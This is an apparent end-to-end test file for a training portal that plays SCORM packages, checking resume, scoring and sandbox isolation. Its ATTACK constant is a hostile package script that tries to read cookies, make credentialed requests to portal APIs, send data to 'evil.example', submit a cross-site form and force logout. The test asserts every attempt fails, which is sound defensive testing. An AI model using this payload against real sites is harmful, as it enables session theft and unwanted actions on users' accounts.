"""Packages in a real browser: the demo's own, one that attacks, and others' from a folder.

`CONCORD_PACKAGES=folder make e2e ARGS=tests/e2e/test_packages.py` imports and opens every zip
there; docs/packages.md says which packages were tried and what was seen.
"""

import os
import re
import secrets
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.cms.packages import made
from tests.e2e.browser import picture, sign_in

LEARNER, SELLER = "learner@northwind.example", "seller@northwind.example"
EDITOR = "marketing@meridian.example"
COURSE = "A site visit, step by step"
OUTSIDE = (
    sorted(Path(os.environ["CONCORD_PACKAGES"]).glob("*.zip"))
    if ("CONCORD_PACKAGES" in os.environ)
    else []
)
RECORDED = re.compile(r"/training/play/\w+/(commit$|xapi/+statements\b)")


def open_course(page, course=COURSE):
    page.goto("/training/courses/")
    page.get_by_role("link", name=course).first.click()
    enroll = page.get_by_role("button", name="Enroll")
    if enroll.count():
        enroll.click()


def play(page, lesson):
    """Open the lesson's first part; the frame it is played in."""
    open_course(page)
    page.get_by_role("link", name=lesson).first.click()
    page.get_by_role("button", name=re.compile("^(Start|Go on)")).first.click()
    return page.frame_locator(".package-player__frame")


def told(page):
    """What the portal's page says around the frame."""
    return page.locator("[data-player-status]")


def state(page):
    """What the lesson says of its first part."""
    page.get_by_role("link", name="Back to the lesson").click()
    return page.get_by_role("row").nth(1)


def test_a_package_is_played_left_and_gone_on_with(visit):
    learner = visit(LEARNER)
    lesson = "The walk through the building"
    course = play(learner, lesson).frame_locator("iframe")
    course.get_by_role("button", name="Next").click()
    course.get_by_text("Count cabinets").wait_for()
    expect(told(learner)).to_have_text("Saved.")
    expect(state(learner)).to_contain_text("In progress")

    course = play(learner, lesson).frame_locator("iframe")
    expect(course.get_by_text("Count cabinets")).to_be_visible()  # where it was left
    picture(learner, "package")
    course.get_by_role("button", name="Next").click()
    course.get_by_label("The floor plan and the keys").check()
    course.get_by_label("Where people complain").check()
    course.get_by_role("button", name="Answer").click()
    expect(course.get_by_text("100 %")).to_be_visible()
    expect(told(learner)).to_have_text("Saved.")
    row = state(learner)
    expect(row).to_contain_text("Passed")
    expect(row).to_contain_text("100")
    open_course(learner)
    expect(learner.get_by_role("main")).to_contain_text("Completed")


ATTACK = """<!DOCTYPE html><html><body><pre id="found">{}</pre><script>
const found = {}, portal = "PORTAL", shown = document.getElementById("found");
const note = (name, what) => {
  found[name] = String(what); shown.textContent = JSON.stringify(found);
};
const attempt = async (name, act) => {
  try { note(name, await act()); } catch { note(name, "no"); }
};
(async () => {
  await attempt("cookie", () => document.cookie || "no");
  await attempt("dom", () => window.top.document.title);
  for (const path of ["/me/", "/api/v1/deals/", "/training/play/0/commit"]) {
    for (const base of [portal, location.origin]) {
      await attempt(base + path, async () =>
        (await fetch(base + path, { credentials: "include" })).status);
      await attempt("blind " + base + path, async () =>
        (await fetch(base + path, { mode: "no-cors", credentials: "include" })).type);
    }
  }
  await attempt("beacon", () => new Promise((done) => {
    const image = new Image();
    image.onload = () => done("sent"); image.onerror = () => done("no");
    image.src = "https://evil.example/?" + document.title;
  }));
  await attempt("popup", () => window.open(portal) || "no");
  await attempt("form", () => {
    const form = document.createElement("form");
    form.action = portal + "/i18n/language/"; form.method = "post"; form.target = "_top";
    document.body.append(form); form.submit(); return "no";
  });
  await attempt("top", () => { window.top.location = portal + "/auth/logout/"; return "went"; });
  note("end", "no");
})();
</script></body></html>"""


@pytest.fixture
def unwatched(new_context, base_url):
    """A signed-in page whose console nobody watches: others' packages complain a lot."""

    def open_page(email):
        context = new_context(viewport={"width": 1280, "height": 800})
        page = context.new_page()
        page.goto("/auth/login/")
        sign_in(page, email)
        return page

    return open_page


def imported(editor, package):
    """Import in the browser and add a lesson to the demo's course, both as marketing does."""
    editor.goto("/training/packages/new/")
    editor.get_by_label("Package").set_input_files(package)
    editor.get_by_role("button", name="Import", exact=True).click()
    expect(editor.get_by_role("heading", name="Table of contents")).to_be_visible()
    title = editor.get_by_role("heading", level=1).inner_text()
    lesson = f"{title} {secrets.token_hex(2)}"
    editor.goto(f"/cms/pages/search/?q={COURSE}")
    edit = editor.get_by_role("link", name=COURSE, exact=True).get_attribute("href")
    number = re.search(r"/pages/(\d+)/", edit)[1]
    editor.goto(f"/cms/pages/add/packages/packagepage/{number}/")
    editor.locator("[name=title]").fill(lesson)
    editor.locator("[name=package]").select_option(label=title)
    editor.locator("[name=required]").uncheck()
    editor.get_by_role("button", name="More actions").last.click()
    editor.get_by_role("button", name="Publish").click()
    expect(editor.locator(".messages")).to_contain_text("published")
    return lesson


def test_a_package_s_script_reaches_nothing_of_the_portal(unwatched, base_url):
    hostile = made.scorm12(**{"sco.html": ATTACK.replace("PORTAL", base_url)})
    file = {"name": "attack.zip", "mimeType": "application/zip", "buffer": hostile}
    lesson = imported(unwatched(EDITOR), file)
    learner = unwatched(SELLER)
    frame = play(learner, lesson).frame_locator("iframe")
    expect(frame.locator("#found")).to_contain_text('"end"')
    found = frame.locator("#found").evaluate("shown => JSON.parse(shown.textContent)")
    assert len(found) > 15
    assert {name: what for name, what in found.items() if what != "no"} == {}
    assert "/training/launches/" in learner.url
    learner.goto("/me/")
    expect(learner.get_by_role("main")).not_to_contain_text("Sign in")


@pytest.mark.parametrize("package", OUTSIDE, ids=lambda path: path.stem)
def test_a_package_nobody_here_made_is_played_and_recorded(unwatched, package):
    lesson = imported(unwatched(EDITOR), package)
    learner = unwatched(SELLER)
    with learner.context.expect_event(
        "response", lambda answer: RECORDED.search(answer.url) and answer.ok, timeout=60_000
    ):
        play(learner, lesson)
        if (window := learner.get_by_role("link", name="Open in a new window")).count():
            window.click()
    expect(state(learner)).to_contain_text(re.compile("In progress|Passed|Done|Not passed"))
